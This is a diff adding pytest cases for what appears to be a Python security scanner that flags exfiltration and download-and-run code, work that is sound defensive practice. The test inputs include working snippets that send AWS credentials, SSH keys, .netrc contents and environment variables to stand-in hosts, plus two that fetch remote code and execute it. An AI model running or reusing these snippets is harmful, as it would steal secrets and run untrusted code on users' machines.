@@ -283,3 +283,59 @@ def test_clipboard_and_token_commands() -> None:
     assert "python.exfiltration" in _rules(clipboard)
     assert "python.exfiltration" not in _rules(own_token)
     assert "python.exfiltration" in _rules(harvest)
+
+
+MORE_THEFT = [
+    # a command that uploads a credential file named in its arguments
+    "import subprocess, os\n"
+    "subprocess.run(['curl', '-F', 'f=@' + os.path.expanduser('~/.aws/credentials'),\n"
+    "                'https://x.example.net/u'])\n",
+    "import subprocess\nsubprocess.run('scp ~/.ssh/id_rsa me@198.51.100.3:', shell=True)\n",
+    # the sending helper handed to a thread
+    "import threading, os, requests\n"
+    "def send(d):\n    requests.post('https://x.example.net', data=d)\n"
+    "threading.Thread(target=send, args=(dict(os.environ),)).start()\n",
+    # the HTTP module imported by a built name
+    "import importlib, os\nr = importlib.import_module('req' + 'uests')\n"
+    "r.post('https://x.example.net', json=dict(os.environ))\n",
+    # data in a URL opened in the browser
+    "import webbrowser, os\n"
+    "webbrowser.open('https://x.example.net/?d=' + open(os.path.expanduser('~/.netrc')).read())\n",
+]
+
+
+@pytest.mark.parametrize("source", MORE_THEFT)
+def test_more_ways_out(source: str) -> None:
+    assert "python.exfiltration" in _rules(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import urllib.request, subprocess, sys\n"
+        "data = urllib.request.urlopen('https://198.51.100.7/u.py').read()\n"
+        "path = '/tmp/u.py'\n"
+        "with open(path, 'wb') as f:\n    f.write(data)\n"
+        "subprocess.run([sys.executable, path])\n",
+        "import urllib.request, subprocess\n"
+        "urllib.request.urlretrieve('https://x.example.net/tool', '/tmp/tool')\n"
+        "subprocess.run(['/tmp/tool', '--init'])\n",
+    ],
+)
+def test_downloaded_file_run(source: str) -> None:
+    assert "python.exec_decoded" in _rules(source)
+
+
+def test_honest_downloads_and_copies() -> None:
+    echo = (
+        "import requests, subprocess\n"
+        "r = requests.get('https://api.example.net/version').json()\n"
+        "subprocess.run(['echo', r['version']])\n"
+    )
+    deploy = (
+        "import subprocess\n"
+        "subprocess.run(['scp', '-i', '~/.ssh/deploy', 'dist/app.tgz',\n"
+        "                'me@host.example.net:/srv'])\n"
+    )
+    assert not _rules(echo) & {"python.exec_decoded", "python.exfiltration"}
+    assert "python.exfiltration" not in _rules(deploy)
